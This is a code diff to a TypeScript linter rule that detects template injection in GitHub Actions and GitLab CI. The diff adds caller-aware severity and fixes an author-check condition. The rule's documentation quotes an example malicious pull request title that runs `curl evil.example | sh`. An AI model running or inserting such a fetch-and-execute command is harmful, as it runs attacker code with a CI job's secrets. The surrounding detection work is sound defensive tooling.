@@ -5,6 +5,7 @@ import type { Severity } from "../../finding.ts";
 import type { StepPlace } from "../../model/workflow.ts";
 import type { Span } from "../../parse/line-index.ts";
 import { defineRule, type Hit } from "../../rule.ts";
+import { withCallers } from "./template-injection/callers.ts";
 import { findInjections, type Injection } from "./template-injection/find-injections.ts";
 import { fixStep } from "./template-injection/fix.ts";
 import { gitlabInjections } from "./template-injection/gitlab.ts";
@@ -20,9 +21,10 @@ export const templateInjection = defineRule({
     severity: "critical",
     title: "Untrusted text becomes code",
     fixClass: "safe",
+    scope: "repository",
     docs: {
       what: "A `${{ }}` in a script (`run`, the `script` of `actions/github-script`, and other inputs that actions run as code) whose text a stranger or the caller decides: titles, texts and branch names of issues, pull requests, comments, reviews, discussions, commits and wiki pages, `inputs`, payloads, and what `env`, `matrix`, job outputs and step outputs of the same file make of them. One finding per step. In GitLab CI: `$[[ inputs.x | expand_vars ]]` in a script, and a commit message, merge request title or branch name inside `eval` or `sh -c`; one finding per job.",
-      why: "GitHub pastes the text into the script before the shell starts, so a pull request with the title `\"; curl evil.example | sh; \"` runs that command with the job's token and secrets. Critical where an event of this workflow lets a stranger set the text; high where a member has to merge it first (commit messages on `push`) or where the event is the caller's; medium for inputs, which callers decide, and for jobs that already ask who the author is.",
+      why: "GitHub pastes the text into the script before the shell starts, so a pull request with the title `\"; curl evil.example | sh; \"` runs that command with the job's token and secrets. Critical where an event of this workflow lets a stranger set the text; high where a member has to merge it first (commit messages on `push`) or where the event is the caller's; medium for inputs, which callers decide, unless a workflow of this repository passes a stranger's text to them, and for jobs that already ask who the author is.",
       notReported:
         "Values of a fixed alphabet (numbers, commit ids, login and repository names, booleans). Results of tests such as `contains(…)` and `a == b`. Inputs of type boolean, number, choice or environment. Fields that no event of this workflow fills. Variables read by the script itself (`$TITLE`), because they are data. `env:`, `with:` and `if:` outside code. Names of branches and tags that only members push, outputs and variables of unknown origin, and fixed values: the strict profile has those. Secrets, which have other rules. In GitLab CI a quoted `$CI_COMMIT_MESSAGE` outside `eval` and `sh -c`, plain `$[[ inputs.x ]]`, and inputs that are numbers, booleans or one of a list.",
       fix: "Put the expression into `env:` of the step and read the variable in the script, in double quotes. The fix does so for bash, sh, PowerShell, Python and JavaScript, uses a variable that is already there, and offers nothing inside single quotes, here-documents with a quoted marker, `cmd`, or arguments that a program runs again (`eval`, `bash -c`, `ssh`).",
@@ -35,7 +37,9 @@ export const templateInjection = defineRule({
 
   *check(context) {
     for (const place of context.steps) {
-      const found = findInjections(place, context.strict ? STRICT : REPORTED);
+      const found = findInjections(place, context.strict ? STRICT : REPORTED).map((injection) =>
+        withCallers(context.repository, place, injection),
+      );
       if (found.length > 0) yield toHit(place, found);
     }
     yield* gitlabInjections(context);
@@ -81,7 +85,7 @@ function severityOf(place: StepPlace, level: Level): Severity {
 function asksAuthor({ document, job, step }: StepPlace): boolean {
   if (document.kind === "action" || job === null) return false;
   const open = document.triggers.map(({ event }) => event).filter((event) => STRANGERS_EVENTS.has(event));
-  return !open.some((event) => stepMayRunFor(document, { job, step }, event));
+  return open.length > 0 && !open.some((event) => stepMayRunFor(document, { job, step }, event));
 }
 
 const STRANGERS_EVENTS: ReadonlySet<string> = new Set(UNTRUSTED_FIELDS.flatMap(({ events }) => events));
